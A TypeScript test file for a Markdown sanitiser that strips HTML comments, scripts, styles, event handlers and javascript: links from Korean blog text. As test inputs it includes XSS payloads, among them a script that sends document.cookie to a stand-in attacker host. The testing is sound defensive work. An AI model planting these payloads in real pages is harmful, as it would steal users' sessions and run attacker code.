import { describe, expect, it } from 'vitest'
import { renderMarkdown } from './pipeline'
import { twinBody } from './twin-body'

describe('twinBody', () => {
  it('keeps plain Markdown exactly as the author wrote it', () => {
    const markdown =
      '## 제목\n\n*강조*와 [링크](/a/)와 `<script>` 코드.\n\n```html\n<!-- 예시 -->\n<script>x()</script>\n```\n'
    expect(twinBody(markdown)).toBe(markdown)
  })

  it('drops an HTML comment with an internal note or a key, at the top level and inside a paragraph', () => {
    const twin = twinBody(
      '앞 문단\n\n<!-- TODO: 내부 메모, api_key=sk-live-123 -->\n\n가운데 <!-- 숨은 키 sk-live-456 --> 문단\n\n끝\n',
    )
    expect(twin).not.toContain('sk-live')
    expect(twin).not.toContain('내부 메모')
    expect(twin).toContain('앞 문단\n\n')
    expect(twin).toContain('가운데')
    expect(twin).toContain('끝')
  })

  it('drops raw <script>, <style> and <template> with their text, even across blank lines', () => {
    const twin = twinBody(
      [
        '<script>fetch("https://evil.example/?" + document.cookie)</script>',
        '',
        '글 <script>steal()</script> 본문',
        '',
        '<style>body { display: none }</style>',
        '',
        '<template>',
        '',
        '숨긴 초안 문단',
        '',
        '</template>',
        '',
        '마지막 문단',
        '',
      ].join('\n'),
    )
    for (const refused of ['evil.example', 'steal', 'display: none', '숨긴 초안', '<script', '<template'])
      expect(twin).not.toContain(refused)
    expect(twin).toContain('본문')
    expect(twin).toContain('마지막 문단')
  })

  it('ends the HTML of a sanitised paragraph before the list that follows it, so the list stays Markdown', async () => {
    const markdown = '<br><mark>참고</mark> 설정\n* `<link href="/a.css">` 추가\n* 둘째\n'
    const twin = twinBody(markdown)
    expect(twin).toBe('<p><br>참고 설정</p>\n\n* `<link href="/a.css">` 추가\n* 둘째\n')
    const html = await renderMarkdown(twin)
    expect(html).toContain('<li><code>&#x3C;link href="/a.css">')
  })

  it('keeps allowed HTML as the page shows it, without handlers or javascript: addresses', () => {
    const twin = twinBody(
      '<img src="/a.png" alt="그림" onerror="alert(1)">\n\n[눌러](javascript:alert(2)) 와 <a href="javascript:alert(3)">링크</a>\n\n[정의]: javascript:alert(4)\n',
    )
    expect(twin).toContain('src="/a.png"')
    expect(twin).toContain('그림')
    expect(twin).not.toMatch(/alert|onerror|javascript:/)
  })

  it('turns only the blocks with HTML into the page’s HTML; the Markdown after a closed <div> stays Markdown', () => {
    const twin = twinBody('<div align="center">\n\n![그림](/a.png)\n\n</div>\n\n**끝** 문단\n')
    expect(twin).toBe('<div align="center">\n<p><img src="/a.png" alt="그림"></p>\n</div>\n\n**끝** 문단\n')
  })

  it('escapes text that only looks like a tag, so that a looser Markdown reader shows it as text too', () => {
    const twin = twinBody("<IMG SRC=JaVaScRiPt:alert('XSS')>\n\n이미 \\<b> 이스케이프, `<b>` 코드\n")
    expect(twin).toBe("\\<IMG SRC=JaVaScRiPt:alert('XSS')>\n\n이미 \\<b> 이스케이프, `<b>` 코드\n")
  })

  it('carries no text the page itself does not show', async () => {
    const markdown =
      '문단 <!-- 비밀 메모 -->\n\n<script>alert(1)</script>\n\n<noscript>숨김 문구</noscript>\n\n보이는 글\n'
    const page = await renderMarkdown(markdown)
    const twin = twinBody(markdown)
    for (const hidden of ['비밀 메모', 'alert(1)', '숨김 문구']) {
      expect(page).not.toContain(hidden)
      expect(twin).not.toContain(hidden)
    }
    expect(page).toContain('보이는 글')
    expect(twin).toContain('보이는 글')
  })
})
